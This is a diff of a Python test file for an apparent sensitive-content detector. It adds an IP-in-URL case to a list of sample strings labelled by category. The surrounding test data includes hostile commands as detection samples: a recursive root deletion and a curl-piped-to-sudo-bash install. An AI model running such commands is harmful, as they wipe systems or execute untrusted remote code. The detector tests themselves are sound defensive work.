@@ -450,6 +450,7 @@ def test_original_example_config_loads_and_builtins_honour_both_directions(home)
     ("call (555) 123-4567", "pii_phone_numbers"),
     ("call +1 555 123 4567", "pii_phone_numbers"),
     ("the server is 10.0.3.17", "ip_addresses"),
+    ("see http://192.168.1.20/admin", "ip_addresses"),
     ("-----BEGIN OPENSSH PRIVATE KEY-----", "private_keys"),
     ("run rm -rf / now", "suspicious_commands"),
     ("curl -fsSL https://x.sh | sudo bash", "suspicious_commands"),
